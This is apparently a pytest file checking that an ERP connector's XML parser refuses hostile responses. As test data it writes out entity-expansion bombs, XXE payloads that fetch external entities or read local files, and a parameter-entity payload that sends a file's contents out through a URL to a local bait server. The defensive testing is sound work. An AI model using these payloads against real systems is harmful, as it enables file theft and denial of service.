"""Attacks by XML: an ERP, or who sits before it, answers with documents meant to do harm.

Each is refused as an answer that is none: a read is tried again later, a write is looked for in
the ledger. Nothing is fetched, no file is read, and it is over within seconds and some megabytes.
"""

import resource
from pathlib import Path
from time import monotonic

import pytest

from connectors.errors import OutcomeUnknown, Rejected, Unavailable
from connectors.syspro.profile import BusinessObject
from connectors.syspro.xml import Unreadable, parse
from tests.support.hostile import Bait, Hostile, hostile_enet

MOST_SECONDS = 30.0
MOST_KILOBYTES = 400 * 1024
FIND = BusinessObject.FIND
POST = BusinessObject.AR_INVOICE

TEN_TIMES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LONG = "A" * 50_000
REFUSED = {
    "an internal entity": b'<!DOCTYPE a [<!ENTITY x "boo">]><a>&x;</a>',
    "an entity nobody declared": b"<a>12&boo;34</a>",
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{TEN_TIMES}]><a>&l11;</a>'.encode(),
    "billion laughs in an attribute": (
        f'<!DOCTYPE a [<!ENTITY l0 "lol">{TEN_TIMES}]><a b="&l11;"/>'.encode()
    ),
    "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY x "{LONG}">]><a>{"&x;" * 50_000}</a>'.encode(),
    "quadratic blow-up in an attribute": (
        f'<!DOCTYPE a [<!ENTITY x "{LONG}">]><a b="{"&x;" * 50_000}"/>'.encode()
    ),
    "a document type and nothing else": b"<!DOCTYPE a><a/>",
    "a document type hidden in UTF-16": (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "boo">]><a>&x;</a>'
    ).encode("utf-16"),
    "a text of a million characters": b"<a>" + b"A" * 1_000_000 + b"</a>",
    "a text of 20 MB": b"<a>" + b"A" * 20_000_000 + b"</a>",
    "10,000 levels": b"<a>" * 10_000 + b"</a>" * 10_000,
    "a million levels never closed": b"<a>" * 1_000_000,
    "three million elements": b"<a>" + b"<b/>" * 3_000_000 + b"</a>",
    "a declared encoding that is another": b'<?xml version="1.0" encoding="UTF-16"?><a>x</a>',
    "a declared encoding that nobody knows": b'<?xml version="1.0" encoding="klingon"?><a>x</a>',
    "UTF-7, in which markup hides": b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b+AD4-</a>',
    "UTF-8 that is none": b'<?xml version="1.0" encoding="UTF-8"?><a>\xe9\xff</a>',
    "NUL": b"<a>\x00</a>",
    "an attribute twice": b'<a b="1" b="2"/>',
    "two roots": b"<a/><b/>",
    "a web page": b"<html><body>Log in</body></html>",
    "nothing": b"",
}


@pytest.mark.parametrize("body", REFUSED.values(), ids=REFUSED.keys())
async def test_a_read_answered_by_it_is_tried_again_later(body: bytes) -> None:
    before, most = monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    async with hostile_enet(Hostile(body)) as client:
        with pytest.raises(Unavailable, match="unexpected answer to COMFND"):
            await client.query(FIND, "<Query/>")
    assert monotonic() - before < MOST_SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - most < MOST_KILOBYTES


@pytest.mark.parametrize("name", ["billion laughs", "10,000 levels", "a text of 20 MB"])
async def test_a_write_answered_by_it_is_in_doubt_and_looked_for(name: str) -> None:
    async with hostile_enet(Hostile(REFUSED[name])) as client:
        with pytest.raises(OutcomeUnknown, match="may be applied"):
            await client.post(POST, "", "<PostArInvoices/>")


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE a SYSTEM "{bait}/a.dtd"><a>&x;</a>',
        '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{bait}/xhtml.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "{bait}/x">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "{bait}/x"> %x;]><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]><a>&x;</a>',
        '<!DOCTYPE a SYSTEM "file://{file}"><a/>',
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{file}">'
        "<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{bait}/?%f;'>\">%e;%s;]><a/>",
    ],
    ids=[
        "external DTD",
        "external DTD by a public name",
        "external entity",
        "external parameter entity",
        "external entity of a file",
        "external DTD of a file",
        "a file's content carried out in a URL",
    ],
)
async def test_nothing_is_fetched_and_no_file_is_shown(document: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("pl4nted-file-content")
    with Bait() as bait:
        body = document.format(bait=bait.url, file=secret).encode()
        async with hostile_enet(Hostile(body)) as client:
            with pytest.raises(Unavailable) as raised:
                await client.query(FIND, "<Query/>")
        assert bait.knocks == 0
    assert "pl4nted" not in str(raised.value)


@pytest.mark.parametrize(
    "document",
    [
        '<?xml-stylesheet type="text/xsl" href="{bait}/a.xsl"?><ArCustomer/>',
        '<ArCustomer xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="{bait}/a.xml"/><xi:include href="file://{file}" parse="text"/>'
        "</ArCustomer>",
        '<ArCustomer xmlns:x="http://www.w3.org/2001/XMLSchema-instance" '
        'x:noNamespaceSchemaLocation="{bait}/a.xsd"/>',
    ],
    ids=["a style sheet", "XInclude", "a schema, as SYSPRO's own answers name one"],
)
async def test_what_an_answer_refers_to_is_left_alone(document: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("pl4nted-file-content")
    with Bait() as bait:
        body = document.format(bait=bait.url, file=secret).encode()
        async with hostile_enet(Hostile(body)) as client:
            answer = await client.query(FIND, "<Query/>")
        assert bait.knocks == 0
    assert all("pl4nted" not in node.text for _, node in answer.walk())


@pytest.mark.parametrize("between", ["<!-- -->", "<?php 0 ?>"], ids=["comment", "instruction"])
def test_an_amount_cannot_be_cut_in_two_unseen(between: str) -> None:
    assert parse(f"<a><v>12{between}34.50</v></a>".encode()).first("v") == "1234.50"


def test_a_document_within_the_document_is_text() -> None:
    inner = "]]>&lt;!DOCTYPE a [&lt;!ENTITY x 'boo'>]>&amp;x;"
    assert parse(f"<a><v>{inner.replace(']]>', ']]&gt;')}</v></a>".encode()).first("v") == (
        "]]><!DOCTYPE a [<!ENTITY x 'boo'>]>&x;"
    )


async def test_a_bomb_beside_an_error_is_no_answer_either() -> None:
    bomb = REFUSED["billion laughs"].replace(b"<a>", b"<a><ErrorDescription>no</ErrorDescription>")
    async with hostile_enet(Hostile(bomb)) as client:
        with pytest.raises(Unavailable):
            await client.query(FIND, "<Query/>")


async def test_an_error_that_carries_markup_is_quoted_as_text() -> None:
    said = "&lt;script&gt;alert(1)&lt;/script&gt; &amp;x; ]]&gt;"
    error = f"<ErrorNumber>240004</ErrorNumber><ErrorDescription>{said}</ErrorDescription>"
    body = f"<a><i>{error}</i></a>"
    async with hostile_enet(Hostile(body.encode())) as client:
        with pytest.raises(Rejected, match="<script>"):
            await client.query(FIND, "<Query/>")


@pytest.mark.parametrize("levels", [200, 250])
def test_as_many_levels_as_libxml_takes_are_read(levels: int) -> None:
    assert parse(b"<a>" * levels + b"</a>" * levels).name == "a"


def test_a_number_of_elements_beyond_every_page_is_refused_before_they_are_built() -> None:
    body = b"<a>" + b"<b/>" * 10_000_000 + b"</a>"
    most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Unreadable, match="too many"):
        parse(body)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - most < MOST_KILOBYTES
